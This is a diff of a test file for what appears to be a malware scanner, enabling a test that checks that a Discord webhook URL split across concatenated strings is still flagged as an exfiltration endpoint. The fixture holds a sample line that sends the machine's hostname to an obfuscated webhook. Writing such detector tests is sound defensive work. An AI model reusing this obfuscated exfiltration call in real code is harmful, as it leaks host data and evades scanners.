@@ -76,8 +76,7 @@ describe('network reports', () => {
     expect(r.verdict).toBe('malicious');
   });
 
-  // Known gap: endpoints are matched per string literal; a webhook URL split across `+` is only folded for the sink's message.
-  test.fails('a Discord webhook URL split across a concatenation is still an exfil endpoint', () => {
+  test('a Discord webhook URL split across a concatenation is still an exfil endpoint', () => {
     const r = scanFiles({ 'index.js': "const https = require('https'); const os = require('os');\nhttps.get('https://disc' + 'ord.com/api/web' + 'hooks/000/fake?h=' + os.hostname());" });
     expect(r.of(RULE)).toContainEqual(finding('high', ['sink:exfil-endpoint']));
     expect(r.verdict).toBe('malicious');
